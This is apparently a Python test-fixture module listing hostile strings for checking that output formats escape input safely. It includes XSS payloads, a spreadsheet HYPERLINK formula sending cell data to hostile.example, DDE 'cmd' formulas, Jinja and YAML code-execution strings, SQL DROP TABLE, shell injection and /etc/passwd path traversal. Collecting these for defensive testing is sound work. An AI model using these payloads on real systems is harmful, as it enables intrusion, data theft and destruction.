"""The corpus: hostile strings, each with what it attacks.

``first`` and ``last`` say that a string does its harm at the start or at the end of a text.
"""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A hostile string, and what it attacks."""

    name: str
    attacks: str
    text: str
    stands: str = ""


OWN = "document.documentElement.setAttribute('data-owned','1')"
"""A script that leaves a mark on a page in which it runs."""
AWAY = "https://hostile.example/x"

CORPUS = (
    # HTML and the browser
    Hostile("script", "HTML markup", f"<script>{OWN}</script>"),
    Hostile("script-end", "a script element", f"</script><script>{OWN}</script>"),
    Hostile("style-end", "a style element", f"</style><script>{OWN}</script>"),
    Hostile("title-end", "the title of a page", f"</title></textarea><script>{OWN}</script>"),
    Hostile("double-quote", "an attribute in double quotes", f'" onmouseover="{OWN}" x="'),
    Hostile("single-quote", "an attribute in single quotes", "' onfocus='alert(1)' autofocus x='"),
    Hostile("backtick-quote", "an attribute in backticks", "` onclick=alert(1) `"),
    Hostile("unquoted", "an attribute without quotes", "x onload=alert(1) y"),
    Hostile("image-error", "event attributes", f'<img src=x onerror="{OWN}">'),
    Hostile("svg-load", "event attributes in SVG", f'<svg onload="{OWN}"><g/></svg>'),
    Hostile("svg-use", "links within SVG", f'<svg><use href="{AWAY}#a"/><a xlink:href="x"/></svg>'),
    Hostile("math", "foreign elements", "<math><mtext></mtext><mglyph><style><img></style></math>"),
    Hostile("frame", "frames", f'<iframe srcdoc="<script>{OWN}</script>" src="{AWAY}"></iframe>'),
    Hostile("object", "plug-ins", f'<object data="{AWAY}"></object><embed src="{AWAY}">'),
    Hostile("refresh", "leaving the page", f'<meta http-equiv="refresh" content="0;url={AWAY}">'),
    Hostile("base", "addresses in a page", f'<base href="{AWAY}"><link rel=stylesheet href=x>'),
    Hostile("form", "forms", f'</form><form action="{AWAY}"><button>Sign in</button>'),
    Hostile("table-end", "the structure of a table", "</td></tr></table><h1>Owned</h1>"),
    Hostile("comment", "comments", f"<!-- --> --!> <!--> <script>{OWN}</script> <!--"),
    Hostile("cdata", "CDATA sections", f"]]> <![CDATA[ <script>{OWN}</script> ]]>"),
    Hostile("nested-tag", "filters that strip tags", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Hostile("nul-in-tag", "filters and parsers of tags", "<scr\0ipt>alert(1)</scr\0ipt>"),
    Hostile(
        "entities", "double decoding", "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62; &amp;lt;"
    ),
    Hostile("percent", "double decoding", "%3Cscript%3Ealert(1)%3C/script%3E %0d%0a%00"),
    Hostile("css", "style sheets", f"}} * {{ background: url({AWAY}) }} @import '{AWAY}'; {{"),
    Hostile(
        "css-escape", "style sheets", r"\3c script\3e x: expression(alert(1)); behavior: url(x)"
    ),
    # addresses
    Hostile("javascript-link", "links", f"javascript:{OWN}", "first"),
    Hostile("javascript-tab", "links", f"java\tscript:{OWN}", "first"),
    Hostile("data-link", "links", "data:text/html,<script>alert(1)</script>", "first"),
    Hostile("vbscript-link", "links", "vbscript:msgbox(1)", "first"),
    Hostile("web-link-quote", "links of the web", f'{AWAY}" onclick="{OWN}', "first"),
    Hostile(
        "web-link-user",
        "what a link seems to lead to",
        "https://acme.example@hostile.example/",
        "first",
    ),
    Hostile("web-link-brackets", "parsers of addresses", "http://[::1", "first"),
    Hostile("no-scheme", "links", "//hostile.example/x", "first"),
    Hostile("file-link", "files of the reader", "file:///etc/passwd", "first"),
    # Markdown and what is made of it
    Hostile("md-link", "Markdown links", f"[click](javascript:alert(1)) [b]({AWAY} 'x')"),
    Hostile("md-image", "Markdown images", f"![x]({AWAY}.png)"),
    Hostile("md-reference", "Markdown references", f"[x]: {AWAY} 'y'", "first"),
    Hostile("md-autolink", "Markdown autolinks", f"<{AWAY}> <javascript:alert(1)>"),
    Hostile("md-heading", "Markdown headings", "# Owned", "first"),
    Hostile("md-underline", "Markdown headings", "=== ---", "first"),
    Hostile("md-fence", "Markdown code", "``` ~~~ html", "first"),
    Hostile("md-tilde-fence", "Markdown code", "~~~ {=html} <b>", "first"),
    Hostile("md-table", "Markdown tables", "| a | b |\n|---|---|\n| c |", "first"),
    Hostile("md-list", "Markdown lists", "- a\n- b\n1. c", "first"),
    Hostile("md-number", "Markdown lists", "1986) was a year. 2. ", "first"),
    Hostile("md-quote", "Markdown quotations", "> > a", "first"),
    Hostile("md-indent", "Markdown code", "     four spaces", "first"),
    Hostile("md-emphasis", "Markdown emphasis", "*a* _b_ **c** ~~d~~ `e` ***"),
    Hostile("md-backslash", "escapes", "C:\\Users\\", "last"),
    Hostile("md-footnote", "Markdown footnotes", "[^1] [^1]: owned", "first"),
    Hostile("md-html", "HTML in Markdown", "<details open ontoggle=alert(1)>", "first"),
    Hostile(
        "pandoc-raw", "Pandoc and Quarto", "`<b>x</b>`{=html} [x]{.y} {{< include /etc/passwd >}}"
    ),
    Hostile("pandoc-div", "Pandoc and Quarto", "::: {.callout}", "first"),
    Hostile("pandoc-cite", "Pandoc and Quarto", "@hostile [@hostile, p. 1] ^up^"),
    Hostile("quarto-cell", "code of a Quarto document", "```{python}\nimport os\n```", "first"),
    Hostile("front-matter", "the header of a document", "---\ntitle: x\n---", "first"),
    Hostile("math-dollar", "formulas in Markdown", r"$\href{javascript:alert(1)}{x}$ $$ \( \["),
    Hostile("mention", "users of a forge", "@everyone #1 owner/name#2 GH-3"),
    # documents
    Hostile("word-xml", "Word XML", "</w:t></w:r><w:r><w:instrText>DDEAUTO c calc</w:instrText>"),
    Hostile("word-field", "Word fields", '{ INCLUDETEXT "C:\\\\x" } HYPERLINK MERGEFIELD'),
    Hostile("word-template", "docxtpl", "{%p if 1 %} {{r x }} {%tr for a in b %} {_{ %_}"),
    Hostile("typst", "Typst code", '#import "x": * #read("/etc/passwd") #{1+1} $x$ <a> @b *c* = d'),
    Hostile("typst-string", "Typst strings", '\\" + read("/etc/passwd") + \\"'),
    Hostile("latex", "LaTeX", r"\input{/etc/passwd} \write18{id} \end{document} ^^5c % x"),
    Hostile("xml", "XML parsers", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "x">]>&b;'),
    # templates and formats
    Hostile("jinja", "Jinja templates", "{{ 7 * 7 }} {% include '/etc/passwd' %} {# x #}"),
    Hostile("jinja-class", "Jinja templates", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Hostile("templates", "other templates", "${7*7} #{7*7} <%= 7*7 %> @{7*7} [[7*7]] {{{x}}}"),
    Hostile("percent-format", "format strings", "%s %n %d %(x)s %99999999d"),
    Hostile(
        "brace-format", "format strings", "{0} {0.__class__.__init__.__globals__} {x!r:>9999999}"
    ),
    # spreadsheets
    Hostile("formula", "spreadsheets", f'=HYPERLINK("{AWAY}?"&A1,"x")', "first"),
    Hostile("formula-plus", "spreadsheets", "+1+cmd|' /C calc'!A0", "first"),
    Hostile("formula-minus", "spreadsheets", "-1+cmd|' /C calc'!A0", "first"),
    Hostile("formula-at", "spreadsheets", "@SUM(1+1)*cmd|' /C calc'!A0", "first"),
    Hostile("formula-tab", "spreadsheets", "\t=1+1", "first"),
    Hostile("formula-return", "spreadsheets", "\r=1+1", "first"),
    Hostile("formula-wide", "spreadsheets", "\uff1d1+1", "first"),
    Hostile("formula-quoted", "spreadsheets", '"=1+1"', "first"),
    Hostile("formula-space", "spreadsheets", " =1+1", "first"),
    Hostile("csv", "comma-separated values", '","=1+1",";\n=2+2'),
    # characters
    Hostile("controls", "control characters", "a\x01b\x08\x08c\x0b\x0c\x0e\x1f\x7f"),
    Hostile("c1", "control characters", "a\x80b\x85c\x9b31md\x9d8;;x\x9c"),
    Hostile("nul", "ends of strings", "a\0b"),
    Hostile("noncharacters", "XML and Unicode", "a\ufffe\uffff\U0001fffe\ufdd0b"),
    Hostile("private", "fonts", "a\ue000\U000f0000b"),
    Hostile("override", "the direction of text", "invoice\u202efdp.exe"),
    Hostile("embedding", "the direction of text", "\u202a\u202ba\u202c\u202d"),
    Hostile("isolates", "the direction of text", "\u2066\u2067\u2068a\u2067", "first"),
    Hostile("marks", "the direction of text", "\u200ea\u200f\u061c"),
    Hostile(
        "right-to-left",
        "the direction of text",
        "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123",
    ),
    Hostile("zero-width", "what cannot be seen", "a\u200bb\u200cc\u200dd\u2060e\u180ef\u00adg"),
    Hostile("bom", "the start of a file", "\ufeffa", "first"),
    Hostile("tags", "what cannot be seen", "a\U000e0001\U000e0041\U000e007fb"),
    Hostile(
        "homoglyphs",
        "names that look alike",
        "\u0430\u0440\u0440\u04cf\u0435 \u2024\u2215 \uff1cscript\uff1e",
    ),
    Hostile("combining", "fonts and heights of lines", "Z" + "\u0300\u0315\u0321\u0345" * 40),
    Hostile(
        "emoji",
        "characters made of several",
        "\U0001f469\u200d\U0001f4bb\ufe0f \U0001f1ec\U0001f1e7 \u0031\ufe0f\u20e3",
    ),
    Hostile("separators", "ends of lines", "a\u2028b\u2029c\x1cd\x1ee"),
    Hostile("newlines", "headers and logs", "a\r\nSet-Cookie: x\r\n\r\nb\rc"),
    Hostile("long-word", "layouts", "W" * 3000),
    Hostile("long-line", "layouts", "word " * 400),
    # terminals and logs
    Hostile("ansi", "terminals", "\x1b[31mred\x1b[0m\x1b[2J\x1b[H"),
    Hostile("osc", "terminals", f"\x1b]8;;{AWAY}\x1b\\x\x1b]8;;\x1b\\ \x1b]0;owned\x07"),
    Hostile(
        "workflow",
        "GitHub workflows",
        "::error file=x,line=1::owned%0A::set-env name=x::y",
        "first",
    ),
    Hostile("workflow-line", "GitHub workflows", "a\n::stop-commands::x\n::add-mask::y"),
    # data
    Hostile("yaml-tag", "YAML", "!!python/object/apply:os.system [id]", "first"),
    Hostile("yaml-anchor", "YAML", "&a [*a, *a]", "first"),
    Hostile("yaml-merge", "YAML", "<<: *a", "first"),
    Hostile("yaml-key", "YAML", "x\nfacts: {authority_type: line}\n# y"),
    Hostile("yaml-comment", "remarks in YAML", "x # y\u2028facts: {}\x85title: z"),
    Hostile("yaml-block", "YAML", "| >- ? : - x: [y, {z", "first"),
    Hostile("json", "JSON", '","owned":true,"x":"\\u0022 \\'),
    Hostile("proto", "JavaScript", "__proto__ constructor.prototype toString"),
    Hostile("mermaid", "Mermaid", '"] --> x\nclick x "javascript:alert(1)" %%{init: {}}%% end'),
    Hostile("dot", "Graphviz", '"]; x [URL="javascript:alert(1)"]; /*'),
    Hostile("sql", "SQL", "'; DROP TABLE cases; --"),
    Hostile("ldap", "LDAP", "*)(uid=*))(|(uid=*"),
    Hostile("shell", "shells", "$(touch owned) `touch owned` ; | & > owned"),
    Hostile("path", "files", "../../../../etc/passwd"),
    Hostile("windows-path", "files", "\\\\hostile.example\\share\\CON ..\\..\\NUL:"),
    Hostile("regex", "regular expressions", "(a+)+$ " + "a" * 60 + "! [[:<:]] \\1 (?P<x>"),
    Hostile("null", "what is taken for nothing", "null"),
    Hostile("tilde", "what is taken for nothing", "~", "first"),
    Hostile("none", "what is taken for nothing", "None undefined NaN nil N/A"),
    Hostile("reserved", "words of the format", "not_known one_of rest unknown disputed"),
    Hostile("truth", "what is taken for true", "yes no on off true false Y N"),
    Hostile(
        "number", "what is taken for a number", "1e309 0x1F 1_000 .5 -0 12:30:45 \u0663", "first"
    ),
)
"""Strings that a YAML file or a mapping can hold. Half a character (a lone surrogate) can come in
through neither: both refuse it."""
HALF = "a\ud800b"
